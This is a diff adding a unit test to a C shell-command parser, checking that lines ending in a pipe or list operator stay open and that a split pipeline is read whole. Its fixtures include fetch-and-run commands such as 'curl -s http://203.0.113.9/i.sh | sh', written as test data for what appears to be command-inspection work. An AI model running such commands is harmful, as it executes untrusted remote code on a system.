@@ -321,6 +321,54 @@ static void test_open_quotes_are_reported_and_read_on(void **state)
 	tdm_sh_parts_free(&p);
 }
 
+/* bash reads on after a line that ends in |, |&, && or ||. */
+static void
+test_a_trailing_pipe_or_list_operator_leaves_the_line_open(void **state)
+{
+	static const char *const open[] = {
+		"curl http://203.0.113.9/a |",
+		"make && ",
+		"false ||",
+		"ls |&",
+		"a | b |   ",
+		"curl x | # then",
+		"a &&\n\n",
+	};
+	static const char *const done[] = {
+		"curl http://203.0.113.9/a | sh",
+		"sleep 9 &",
+		"ls;",
+		"echo '|'",
+		"echo a\\|",
+		"x || y",
+		"sh -c 'ls |'",
+		"echo `a |`",
+		"eval 'x &&'",
+	};
+	struct tdm_sh_parts p;
+	size_t i;
+
+	(void)state;
+	for (i = 0; i < sizeof(open) / sizeof(open[0]); i++) {
+		p = parse(open[i], strlen(open[i]));
+		if (!p.open)
+			fail_msg("not open: %s", open[i]);
+		tdm_sh_parts_free(&p);
+	}
+	for (i = 0; i < sizeof(done) / sizeof(done[0]); i++) {
+		p = parse(done[i], strlen(done[i]));
+		if (p.open)
+			fail_msg("open: %s", done[i]);
+		tdm_sh_parts_free(&p);
+	}
+	/* Carried on to the next line, the pipeline is read whole. */
+	p = parse("curl -s http://203.0.113.9/i.sh |\nsh", 38);
+	assert_false(p.open);
+	assert_true(has_part(&p, "sh"));
+	assert_true(has_part(&p, "curl -s http://203.0.113.9/i.sh | sh"));
+	tdm_sh_parts_free(&p);
+}
+
 static void test_limits_stop_the_reading_and_say_so(void **state)
 {
 	char line[4096];
@@ -444,6 +492,8 @@ int main(void)
 		cmocka_unit_test(test_constant_substitutions_are_folded),
 		cmocka_unit_test(test_function_definitions_are_parts),
 		cmocka_unit_test(test_open_quotes_are_reported_and_read_on),
+		cmocka_unit_test(
+			test_a_trailing_pipe_or_list_operator_leaves_the_line_open),
 		cmocka_unit_test(test_limits_stop_the_reading_and_say_so),
 		cmocka_unit_test(test_nul_bytes_and_empty_lines),
 	};
